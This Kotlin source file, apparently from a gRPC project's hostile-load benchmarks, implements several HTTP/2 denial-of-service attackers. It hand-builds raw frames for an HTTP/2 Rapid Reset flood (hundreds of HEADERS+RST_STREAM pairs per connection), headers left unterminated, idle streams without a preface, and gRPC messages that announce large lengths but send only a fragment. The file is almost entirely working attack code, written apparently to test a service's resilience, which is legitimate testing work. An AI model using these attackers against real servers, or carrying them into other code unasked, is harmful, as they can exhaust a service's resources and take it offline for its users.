package io.grpcstream.samples.benchmarks.hostile

import io.grpcstream.libp2p.Stream
import io.netty.buffer.ByteBufUtil
import io.netty.buffer.Unpooled
import io.netty.channel.Channel
import io.netty.channel.ChannelInboundHandlerAdapter
import io.netty.channel.ChannelInitializer
import io.netty.handler.codec.http2.DefaultHttp2DataFrame
import io.netty.handler.codec.http2.DefaultHttp2Headers
import io.netty.handler.codec.http2.DefaultHttp2HeadersEncoder
import io.netty.handler.codec.http2.DefaultHttp2HeadersFrame
import io.netty.handler.codec.http2.Http2CodecUtil
import io.netty.handler.codec.http2.Http2FrameCodecBuilder
import io.netty.handler.codec.http2.Http2Headers
import io.netty.handler.codec.http2.Http2MultiplexHandler
import io.netty.handler.codec.http2.Http2StreamChannelBootstrap
import io.netty.util.ReferenceCountUtil
import java.io.ByteArrayOutputStream
import java.io.IOException
import java.nio.ByteBuffer
import java.util.concurrent.TimeUnit
import java.util.concurrent.atomic.AtomicReferenceArray

/** HTTP/2 (RFC 9113) and gRPC's messages by the byte. */
internal object Http2 {
    const val DATA = 0
    const val HEADERS = 1
    const val RST_STREAM = 3
    const val SETTINGS = 4
    const val END_HEADERS = 4

    val PREFACE: ByteArray = ByteBufUtil.getBytes(Http2CodecUtil.connectionPrefaceBuf())

    /** What a client begins with. */
    val START: ByteArray = PREFACE + frame(SETTINGS, 0, 0)

    /** CANCEL. */
    val RESET = byteArrayOf(0, 0, 0, 8)

    fun frame(
        type: Int,
        flags: Int,
        stream: Int,
        payload: ByteArray = ByteArray(0),
    ): ByteArray {
        val head = Unpooled.buffer(HEAD_BYTES)
        head
            .writeMedium(payload.size)
            .writeByte(type)
            .writeByte(flags)
            .writeInt(stream)
        return ByteBufUtil.getBytes(head) + payload
    }

    /** Of a call that uploads. */
    fun request(): Http2Headers =
        DefaultHttp2Headers()
            .method("POST")
            .scheme("http")
            .path("/benchmarks.Load/Upload")
            .authority("peer")
            .add("content-type", "application/grpc")
            .add("te", "trailers")

    fun encoded(headers: Http2Headers): ByteArray {
        val out = Unpooled.buffer()
        // Without a table of names: each call's are the same bytes.
        DefaultHttp2HeadersEncoder({ _, _ -> true }, false, 0).encodeHeaders(1, headers, out)
        return ByteBufUtil.getBytes(out)
    }

    /** What gRPC puts before a message of so many bytes. */
    fun prefix(bytes: Int): ByteArray =
        byteArrayOf(0) + ByteBuffer.allocate(Int.SIZE_BYTES).putInt(bytes).array()

    private const val HEAD_BYTES = 9
}

internal fun Stream.send(bytes: ByteArray) {
    val sent = channel().writeAndFlush(Unpooled.wrappedBuffer(bytes))
    if (!sent.awaitUninterruptibly(20, TimeUnit.SECONDS)) throw IOException("not taken")
    if (!sent.isSuccess) throw IOException(sent.cause())
}

/** Calls that are begun and reset at once: as many as one stream bears, then the next stream. */
internal class RapidReset(
    target: Target,
) : StreamAttacker(target) {
    private val resets =
        ByteArrayOutputStream().run {
            val headers = Http2.encoded(Http2.request())
            writeBytes(Http2.START)
            for (call in 0 until RESETS) {
                val id = 2 * call + 1
                writeBytes(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, id, headers))
                writeBytes(Http2.frame(Http2.RST_STREAM, 0, id, Http2.RESET))
            }
            toByteArray()
        }

    override fun act(thread: Int): Int {
        val stream = stream(thread)
        try {
            stream.send(resets)
            stream.close()
            stream.closed().orThrow()
        } finally {
            stream.reset()
        }
        return RESETS
    }

    private companion object {
        /** Below what a stream bears in 10 seconds. */
        const val RESETS = 900
    }
}

/** Headers whose end is not sent. */
internal class HalfHeaders(
    target: Target,
) : StreamAttacker(target) {
    private val start =
        Http2.START + Http2.frame(Http2.HEADERS, 0, 1, Http2.encoded(Http2.request()))

    override fun act(thread: Int): Int {
        stream(thread).send(start)
        return 1
    }
}

/** Streams on which nothing is said. */
internal class NoPreface(
    target: Target,
) : StreamAttacker(target) {
    override fun act(thread: Int): Int {
        stream(thread)
        return 1
    }
}

/** Calls whose first message has said its length, and little else: [CALLS] a stream. */
internal class HalfMessages(
    target: Target,
) : StreamAttacker(target) {
    private val calls =
        ByteArrayOutputStream().run {
            val headers = Http2.encoded(Http2.request())
            writeBytes(Http2.START)
            for (call in 0 until CALLS) {
                val id = 2 * call + 1
                writeBytes(Http2.frame(Http2.HEADERS, Http2.END_HEADERS, id, headers))
                val half = Http2.prefix(1 shl 20) + ByteArray(10)
                writeBytes(Http2.frame(Http2.DATA, 0, id, half))
            }
            toByteArray()
        }

    override fun act(thread: Int): Int {
        stream(thread).send(calls)
        return CALLS
    }

    private companion object {
        const val CALLS = 100
    }
}

/** Calls on one stream that have sent 3 MiB of a message that the service would take, and no more. */
internal class UnfinishedMessages(
    target: Target,
) : StreamAttacker(target) {
    private val connections = AtomicReferenceArray<Channel>(Attacker.THREADS)

    override fun act(thread: Int): Int {
        if (thread > 0) {
            Thread.sleep(PAUSE_MILLIS) // One stream is what the attack is about.
            return 0
        }
        val connection =
            connections.get(thread) ?: http2(thread).also { connections.set(thread, it) }
        val call =
            Http2StreamChannelBootstrap(connection)
                .handler(Discard)
                .open()
                .await()
        if (!call.isSuccess) throw IOException(call.cause())
        call.now.write(DefaultHttp2HeadersFrame(Http2.request()))
        val message = Http2.prefix(MESSAGE_BYTES + 1) + ByteArray(MESSAGE_BYTES)
        val sent = call.now.writeAndFlush(DefaultHttp2DataFrame(Unpooled.wrappedBuffer(message)))
        // As far as the windows let it: the host may rightly keep them shut.
        sent.awaitUninterruptibly(PATIENCE_SECONDS, TimeUnit.SECONDS)
        if (sent.isDone && !sent.isSuccess) throw IOException(sent.cause())
        return 1
    }

    /** A stream with Netty's HTTP/2, which keeps to the windows that the host gives. */
    private fun http2(thread: Int): Channel {
        val stream = stream(thread).channel()
        val initialized = stream.eventLoop().newPromise<Unit>()
        stream.eventLoop().execute {
            stream.pipeline().addLast(
                Http2FrameCodecBuilder.forClient().build(),
                Http2MultiplexHandler(Discard),
            )
            initialized.setSuccess(Unit)
        }
        initialized.syncUninterruptibly()
        return stream
    }

    private object Discard : ChannelInitializer<Channel>() {
        override fun initChannel(channel: Channel) {
            channel.pipeline().addLast(
                object : ChannelInboundHandlerAdapter() {
                    override fun channelRead(
                        context: io.netty.channel.ChannelHandlerContext,
                        message: Any,
                    ) {
                        ReferenceCountUtil.release(message)
                    }
                },
            )
        }

        override fun isSharable() = true
    }

    private companion object {
        const val MESSAGE_BYTES = 3 shl 20
        const val PAUSE_MILLIS = 10L
        const val PATIENCE_SECONDS = 2L
    }
}
